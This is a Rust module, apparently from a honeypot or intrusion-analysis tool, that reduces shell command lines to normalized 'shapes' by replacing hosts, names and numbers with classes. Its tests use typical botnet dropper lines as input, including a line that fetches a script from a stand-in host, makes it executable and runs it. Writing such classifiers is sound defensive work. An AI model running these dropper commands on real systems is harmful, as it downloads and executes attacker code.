// SPDX-License-Identifier: Apache-2.0
//! The shape of a command line: what is left when everything that an intruder chooses freely is
//! taken out. Hosts, file names, tokens, payloads and numbers become classes; programs, options,
//! operators and places of the system stay.
//!
//! A single pass over the bytes, no grammar: quotes only keep blanks and operators from counting.

use super::applets::is_applet;
use super::commands::is_known;
use super::paths::base;

/// Longest shape, in bytes; the rest of a longer one is left out.
const MAX_SHAPE_BYTES: usize = 512;

/// Writes the shape of a line, without its control bytes, into `shape`, which is emptied first.
pub fn shape_of(line: &[u8], shape: &mut String) {
    shape.clear();
    let mut command = true;
    let mut target = false;
    let mut rest = line;
    while let Some((&byte, after)) = rest.split_first() {
        if shape.len() > MAX_SHAPE_BYTES {
            shape.push('…');
            return;
        }
        match byte {
            b' ' | b'\t' | b'\r' | b'\n' => rest = after,
            b';' | b'&' | b'|' | b'(' | b')' | b'{' | b'}' => {
                let length = rest.iter().take(2).take_while(|&&next| next == byte).count();
                space(shape);
                rest.iter().take(length).for_each(|&byte| shape.push(char::from(byte)));
                rest = rest.get(length..).unwrap_or_default();
                command = true;
            }
            b'<' | b'>' => {
                let length = rest.iter().take_while(|next| b"<>&-".contains(next)).count();
                space(shape);
                shape.push(char::from(byte));
                rest = rest.get(length..).unwrap_or_default();
                target = true;
            }
            _ => {
                let (length, quoted) = word_length(rest);
                let word = rest.get(..length).unwrap_or_default();
                rest = rest.get(length..).unwrap_or_default();
                let still = push_word(word, quoted, command && !target, shape);
                command &= target || still;
                target = false;
            }
        }
    }
}

fn space(shape: &mut String) {
    if !shape.is_empty() {
        shape.push(' ');
    }
}

/// How long the word is that begins here, and whether it holds quotes.
fn word_length(text: &[u8]) -> (usize, bool) {
    let mut at = 0;
    let mut quoted = false;
    while let Some(&byte) = text.get(at) {
        match byte {
            b'\\' => at += 2,
            b'\'' | b'"' => {
                quoted = true;
                let rest = text.get(at + 1..).unwrap_or_default();
                at += 2 + memchr::memchr(byte, rest).unwrap_or(rest.len());
            }
            b' ' | b'\t' | b'\r' | b'\n' | b';' | b'&' | b'|' | b'<' | b'>' | b'(' | b')' => break,
            _ => at += 1,
        }
    }
    (at.min(text.len()), quoted)
}

/// Writes the class of a word; does a command still have to come?
fn push_word(word: &[u8], quoted: bool, command: bool, shape: &mut String) -> bool {
    let text = String::from_utf8_lossy(word);
    let text = text.trim_matches(['"', '\'']);
    space(shape);
    if command {
        return push_command(text, quoted, shape);
    }
    // `if=X` of dd: the name of the operand stays.
    let key = text.find('=').filter(|at| *at <= 6 && !quoted).map_or(0, |at| at + 1);
    let (key, text) = text.split_at(key);
    let place = if text.len() > 1 { text.trim_end_matches('/') } else { text };
    shape.push_str(key);
    shape.push_str(class(text, quoted).unwrap_or(place));
    false
}

fn push_command(text: &str, quoted: bool, shape: &mut String) -> bool {
    let name = base(text);
    if text.contains('=') && !text.starts_with(['/', '.']) {
        shape.push_str("VAR");
        return true;
    }
    if name == "busybox" && text != "./busybox" {
        shape.push_str("busybox");
        return true;
    }
    if is_known(name) && (!text.contains('/') || text.starts_with('/')) {
        shape.push_str(name);
        return matches!(
            name,
            "nohup" | "sudo" | "exec" | "time" | "do" | "then" | "else" | "while" | "if" | "env"
        );
    }
    shape.push_str(if text.contains('/') { "RUN" } else { class(text, quoted).unwrap_or("WORD") });
    false
}

/// The class of an argument; none when it stays as it is.
fn class(text: &str, quoted: bool) -> Option<&'static str> {
    let bytes = text.as_bytes();
    if text.contains("\\x") || text.contains("\\0") {
        return Some("BYTES");
    }
    if text.contains("://") || is_address(text.split(['/', ':']).next().unwrap_or(text)) {
        return Some("HOST");
    }
    if text.starts_with('-') && text.len() <= 10 && !text.contains(['/', '.']) {
        return None;
    }
    if matches!(text, "777" | "0777" | "755" | "0755" | "+x" | "a+x" | "u+x") {
        return Some("MODE");
    }
    if !bytes.is_empty() && bytes.iter().all(u8::is_ascii_digit) {
        return Some("N");
    }
    if is_place(text) || (text.len() <= 12 && is_applet(text)) {
        return None;
    }
    Some(if quoted || text.contains(' ') { "TEXT" } else { "NAME" })
}

fn is_address(text: &str) -> bool {
    let mut numbers = 0;
    let whole = text.split('.').all(|part| {
        numbers += 1;
        !part.is_empty() && part.len() <= 3 && part.bytes().all(|byte| byte.is_ascii_digit())
    });
    whole && numbers == 4
}

/// A directory or file that every system has.
fn is_place(text: &str) -> bool {
    const PLACES: [&str; 30] = [
        "/",
        "/tmp",
        "/var",
        "/var/run",
        "/var/tmp",
        "/dev",
        "/dev/shm",
        "/dev/null",
        "/mnt",
        "/root",
        "/etc",
        "/bin",
        "/usr",
        "/boot",
        "/home",
        "/proc/mounts",
        "/proc/cpuinfo",
        "/proc/self/exe",
        "/proc/version",
        "/bin/busybox",
        "/bin/sh",
        "/bin/echo",
        "/bin/ls",
        "/etc/passwd",
        "/etc/shadow",
        "/etc/issue",
        "/dev/netslink",
        "/data/local/tmp",
        "~",
        ".",
    ];
    let text = if text.len() > 1 { text.trim_end_matches('/') } else { text };
    PLACES.contains(&text)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shape(line: &str) -> String {
        let mut shape = String::new();
        shape_of(line.as_bytes(), &mut shape);
        shape
    }

    #[test]
    fn hosts_names_and_tokens_do_not_matter() {
        let one = shape(
            "cd /tmp; wget http://192.0.2.1/a.sh -O .q; chmod 777 .q; ./.q x; /bin/busybox ECCHI",
        );
        let two = shape(
            "cd /tmp/;wget http://h.example.invalid/bins -O zz;chmod +x zz;./zz y;/bin/busybox KWTZ",
        );
        assert_eq!(one, two);
        assert_eq!(one, "cd /tmp ; wget HOST -O NAME ; chmod MODE NAME ; RUN NAME ; busybox NAME");
    }

    #[test]
    fn programs_options_and_places_matter() {
        assert_ne!(shape("cd /tmp"), shape("cd /var"));
        assert_ne!(shape("wget http://h/a"), shape("curl http://h/a"));
        assert_eq!(
            shape("echo -ne '\\x7f; |' >> a; N=1 sh b"),
            "echo -ne BYTES > NAME ; VAR sh NAME"
        );
        assert_eq!(
            shape(">/var/.q && cd /var; dd if=.s bs=52"),
            "> NAME && cd /var ; dd if=NAME bs=N"
        );
    }

    #[test]
    fn any_bytes_have_a_shape_of_bounded_length() {
        let mut shape = String::new();
        for line in [&b"\\"[..], b"'", b"\xff\xfe", &[b'a'; 100_000], &b"a ".repeat(100_000)] {
            shape_of(line, &mut shape);
            assert!(shape.len() < 2 * MAX_SHAPE_BYTES);
        }
    }
}
